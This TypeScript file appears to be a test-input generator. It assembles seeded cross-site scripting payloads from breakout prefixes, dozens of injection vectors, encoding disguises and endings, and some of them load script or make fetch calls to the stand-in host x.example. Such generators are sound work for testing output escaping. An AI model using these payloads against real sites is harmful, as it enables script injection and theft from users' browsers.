/** Texts that try to become part of the page: known vectors, in the places where an answer is written, in many disguises. */
import { randomFrom } from "./random.ts";

export function hostileText(seed: string, number: number): string {
  const random = randomFrom(`${seed} hostile ${number}`);
  const actionName = random.pick(actions);
  const vector = random.pick(vectors).replaceAll("!", () => random.pick(disguises)(actionName));
  return random.pick(breakouts) + vector + random.pick(endings);
}

const actions = ["alert(1)", "alert`1`", "eval(name)", "top.stolen=1", "fetch('//x.example')", "window['al'+'ert'](1)"];

const disguises: readonly ((actionName: string) => string)[] = [
  (actionName) => actionName,
  (actionName) => [...actionName].map((letter) => `&#${letter.charCodeAt(0)};`).join(""),
  (actionName) => [...actionName].map((letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, "0")}`).join(""),
  (actionName) => encodeURIComponent(actionName),
  (actionName) => actionName.toUpperCase(),
];

const breakouts = [
  "",
  '"',
  "'",
  '">',
  "'>",
  "</textarea>",
  "</script>",
  "</title>",
  "-->",
  "]]>",
  '"}}</script>',
  "\u2028",
  "\\",
  "%22%3E",
  "＜",
];

const vectors = [
  "<script>!</script>",
  "<ScRiPt>!</sCrIpT>",
  "<script src=//x.example/x.js>",
  "<img src=x onerror=!>",
  "<img/src=x/onerror=!>",
  "<svg onload=!>",
  "<svg><script>!</script></svg>",
  "<math><mi xlink:href=javascript:!>x",
  "<iframe srcdoc='<script>!</script>'>",
  "<body onload=!>",
  "<details open ontoggle=!>",
  "<input autofocus onfocus=!>",
  "<a href=javascript:!>x</a>",
  "<form action=javascript:!><button>x",
  "<object data=javascript:!>",
  "<base href=//x.example>",
  "<link rel=stylesheet href=//x.example>",
  "<meta http-equiv=refresh content=0;url=javascript:!>",
  "<style>@import '//x.example'</style>",
  "<template shadowrootmode=open><script>!</script></template>",
  " onmouseover=! x=",
  " autofocus onfocus=! x=",
  "javascript:!",
  "data:text/html,<script>!</script>",
  "{{constructor.constructor('!')()}}",
  "${!}",
  "<!--<img src=--><img src=x onerror=!>",
  "<noscript><p title='</noscript><img src=x onerror=!>'>",
];

const endings = ["", "//", "<!--", "\\", '"', "'", " ", "</a>", "`"];
